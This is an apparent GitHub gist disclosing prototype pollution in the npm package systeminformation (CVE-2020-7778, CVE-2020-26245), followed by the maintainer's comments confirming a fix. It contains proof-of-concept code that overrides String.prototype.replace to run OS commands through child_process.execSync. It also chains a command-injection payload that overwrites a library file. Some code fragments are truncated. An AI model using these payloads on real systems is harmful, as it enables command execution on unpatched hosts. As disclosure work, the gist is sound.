Skip to content

Instantly share code, notes, and snippets.

Last active December 16, 2020 00:20
Show Gist options
  • Star 0 You must be signed in to star a gist
  • Fork 0 You must be signed in to fork a gist
  • Save EffectRenan/b434438938eed0b21b376cedf5c81e80 to your computer and use it in GitHub Desktop.
Save EffectRenan/b434438938eed0b21b376cedf5c81e80 to your computer and use it in GitHub Desktop.
[systeminformation] - Prototype Pollution

Vulnerability: Prototype Pollution - CVE-2020-7778, CVE-2020-26245

Package name: systeminformation.

Tested package versions: 4.30.1, 4.30.2, 4.30.4

Fixed package versions: >= 4.30.5

Description: The attacker can overwrite the properties and functions of an object. It can lead to executing OS commands.

Sensitive file: lib/internet.js.

Steps to reproduce:

Simple test:

const si = require('systeminformation');const obj = {};

obj.__proto__.polluted = "polluted";

si.inetChecksite("").then((a) => {

Prototype Pollution leading to OS command execution:


const si = require('systeminformation');
const obj = "";obj.__proto__.replace = () => { return require("child_process").execSync("<OS command>") };


The payload above exploit the replace function, which is called in the lib/internet.js file to sanitize the user input.

let urlSanitized = util.sanitizeShellString(url).toLowerCase();
urlSanitized = urlSanitized.replace(/ /g, '');
urlSanitized = urlSanitized.replace(/\$/g, '');
urlSanitized = urlSanitized.replace(/\(/g, '');
urlSanitized = urlSanitized.replace(/\)/g, '');
urlSanitized = urlSanitized.replace(/{/g, '');
urlSanitized = urlSanitized.replace(/}/g, '');If in some context the require function is not available, it is possible to exploit the Command Injection vulnerability via CVE-2020-7752.

const URL = "";
const HOST = ""; // CVE-2020-7752
const PAYLOAD = `telnet://${HOST} --no-buffer -o node_modules/systeminformation/lib/internet.js`; // CVE-2020-7752

URL.__proto__.toLowerCase = () => {
   return {
      replace: () => {return PAYLOAD}

URL.__proto__.replace = () => {
   return URL;

Copy linksebhildebrandt commented Nov 26, 2020

@EffectRenan:done, fixed (hopefully). Your comments where super helpful! Thank you so much! Would be happy, if you can test it on your side. I ran the code above (from yesterday) without any issue. Would you also provide a CVE ID or should I request one via GitHub?

Copy link

@sebhildebrandt, It seems to be fixed! Thank you too to resolve this fast and avoid possible malicious usage.
Any problems contact me.

Only the owner of theproject can request a CVE. Thank you again!Sign up for free to join thisconversation on GitHub. Already have an account? Sign in to comment